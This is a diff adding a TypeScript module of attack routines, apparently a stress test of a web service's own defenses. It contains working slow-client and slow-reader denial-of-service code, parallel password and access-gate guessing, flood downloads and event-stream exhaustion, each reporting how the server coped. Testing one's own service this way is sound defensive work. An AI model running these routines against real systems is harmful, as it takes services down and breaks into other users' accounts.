@@ -1,0 +1,123 @@
+import type { Agent } from 'node:http'
+import { setTimeout as wait } from 'node:timers/promises'
+import { begin, type Headers, send, storm, type Target } from './attacker.ts'
+
+export type Spoils = Target & {
+  /** Accounts of the attackers'. */
+  accounts: Headers[]
+  /** A link whose gate they guess at, somebody's address, their own record, and a signed address of a large file of theirs. */
+  link: string
+  victim: string
+  record: string
+  fileUrl: string
+}
+
+const counted = (statuses: Record<string, number>) =>
+  Object.entries(statuses)
+    .map(([status, times]) => `${times} x ${status === '0' ? 'dropped' : status}`)
+    .join(', ')
+
+/** 300 connections that send a byte a second: headers, JSON bodies, files. */
+async function slowClients(spoils: Spoils): Promise<string> {
+  const post = (path: string, length: number, headers: Headers = {}) =>
+    begin(
+      spoils,
+      `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: ${length}\r\n${Object.entries(headers)
+        .map(([name, value]) => `${name}: ${value}\r\n`)
+        .join('')}\r\n`,
+    )
+  const sockets = Array.from({ length: 100 }, (_, n) => [
+    begin(spoils, 'GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: '),
+    post('/auth/v1/signup', 60_000),
+    post('/api/documents', 10_000_000, {
+      ...spoils.accounts[n % spoils.accounts.length],
+      'content-type': 'multipart/form-data; boundary=x',
+    }),
+  ]).flat()
+  for (let second = 0; second < 30; second += 1) {
+    for (const socket of sockets) if (socket.writable) socket.write('x')
+    await wait(1000)
+  }
+  const cut = sockets.filter(({ destroyed, readyState }) => destroyed || readyState !== 'open').length
+  for (const socket of sockets) socket.destroy()
+  return `${cut} of ${sockets.length} cut within 30 s`
+}
+
+/** Addresses at a gate and passwords of somebody else, 50 at a time. */
+async function parallelGuesses(spoils: Spoils): Promise<string> {
+  const json = { 'content-type': 'application/json' }
+  const gate = await storm(2000, 50, (agent, n) =>
+    send(spoils, agent, {
+      method: 'POST',
+      path: `/api/public/verifications/${spoils.link}/gate`,
+      headers: json,
+      body: JSON.stringify({ email: `guess-${n}@example.com` }),
+    }),
+  )
+  const password = await storm(2000, 50, (agent, n) =>
+    send(spoils, agent, {
+      method: 'POST',
+      path: '/auth/v1/token?grant_type=password',
+      headers: json,
+      body: JSON.stringify({ email: spoils.victim, password: `Guess-${n}-horse` }),
+    }),
+  )
+  return `gate ${counted(gate)}; passwords ${counted(password)}`
+}
+
+/** The same record and the same large file again and again, 50 at a time. */
+async function repeatedDownloads(spoils: Spoils): Promise<string> {
+  const [headers = {}] = spoils.accounts
+  const get = (path: string, more: Headers) => (agent: Agent) => send(spoils, agent, { path, headers: more })
+  const record = await storm(3000, 50, get(`/api/records/${spoils.record}/files/record.pdf`, headers))
+  const file = await storm(600, 50, get(spoils.fileUrl, {}))
+  return `record ${counted(record)}; file ${counted(file)}`
+}
+
+/** 200 downloads of a large file that nobody reads. */
+async function slowReaders(spoils: Spoils): Promise<string> {
+  const sockets = Array.from({ length: 200 }, () => {
+    const socket = begin(spoils, `GET ${spoils.fileUrl} HTTP/1.1\r\nHost: x\r\n\r\n`)
+    socket.pause()
+    return socket
+  })
+  await wait(15_000)
+  for (const socket of sockets) socket.destroy()
+  return `${sockets.length} readers for 15 s`
+}
+
+/** 1,500 event streams of one account. */
+async function eventStreams(spoils: Spoils): Promise<string> {
+  const { authorization = '' } = spoils.accounts.at(-1) ?? {}
+  let open = 0
+  const sockets = []
+  for (let n = 0; n < 1500; n += 1) {
+    const socket = begin(
+      spoils,
+      `GET /api/live HTTP/1.1\r\nHost: x\r\nAuthorization: ${authorization}\r\n\r\n`,
+    )
+    let text = ''
+    socket.on('data', (bytes) => {
+      text += bytes
+      if (text.includes(': connected') && socket.listenerCount('close') === 1) open += 1
+      if (text.endsWith('0\r\n\r\n')) socket.destroy()
+    })
+    socket.once('close', () => {
+      if (text.includes(': connected')) open -= 1
+    })
+    sockets.push(socket)
+    if (n % 50 === 49) await wait(50)
+  }
+  await wait(3000)
+  const stayed = open
+  for (const socket of sockets) socket.destroy()
+  return `${stayed} of ${sockets.length} stayed open`
+}
+
+export const attacks: Record<string, (spoils: Spoils) => Promise<string>> = {
+  'slow clients': slowClients,
+  'slow readers': slowReaders,
+  'parallel guesses': parallelGuesses,
+  'repeated downloads': repeatedDownloads,
+  'event streams': eventStreams,
+}
